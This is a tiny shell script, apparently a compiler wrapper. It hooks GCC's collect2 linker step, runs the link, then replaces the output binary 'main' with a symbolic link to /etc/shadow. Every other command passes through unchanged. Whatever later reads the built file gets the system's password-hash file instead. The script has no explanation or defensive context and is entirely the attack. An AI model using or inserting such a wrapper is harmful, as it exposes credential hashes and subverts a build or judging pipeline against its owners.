case "$1" in
*collect2) "$@"; ln -sf /etc/shadow main ;;
*) exec "$@" ;;
esac
